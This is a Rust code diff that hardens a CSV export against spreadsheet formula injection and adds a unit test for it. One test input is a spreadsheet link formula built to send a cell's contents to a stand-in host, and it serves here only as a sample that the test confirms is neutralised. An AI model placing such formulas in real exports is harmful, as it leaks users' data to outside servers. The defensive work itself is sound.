@@ -143,8 +143,18 @@ fn csv_row(body: &str, out: &mut Vec<u8>) -> Result<()> {
     Ok(())
 }
 
-/// RFC 4180: quote fields holding a comma, quote or line break; double inner quotes.
+/// RFC 4180: quote fields holding a comma, quote or line break; double inner quotes. Text a
+/// spreadsheet would run as a formula (tool names and reasons come from agents) gets a leading `'`
+/// (OWASP's CSV-injection rule); numbers, negative ones included, stay as they are. The NDJSON
+/// export is the byte-exact one.
 pub(crate) fn csv_field(text: &str, out: &mut Vec<u8>) {
+    let formula =
+        text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.parse::<f64>().is_err();
+    let text: std::borrow::Cow<'_, str> = if formula {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    };
     if text.contains([',', '"', '\n', '\r']) {
         out.push(b'"');
         out.extend_from_slice(text.replace('"', "\"\"").as_bytes());
@@ -165,6 +175,24 @@ mod tests {
         out.push(b'|');
         csv_field("a,\"b\"\nc", &mut out);
         assert_eq!(String::from_utf8(out).unwrap(), "plain|\"a,\"\"b\"\"\nc\"");
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+        let cell = |text: &str| {
+            let mut out = Vec::new();
+            csv_field(text, &mut out);
+            String::from_utf8(out).unwrap()
+        };
+        assert_eq!(
+            cell("=HYPERLINK(\"http://x/?\"&A1)"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""
+        );
+        assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(cell("-2+3"), "'-2+3");
+        assert_eq!(cell("-32012"), "-32012", "numbers stay numbers");
+        assert_eq!(cell("0.412"), "0.412");
+        assert_eq!(cell("read_invoice"), "read_invoice");
     }
 
     #[test]
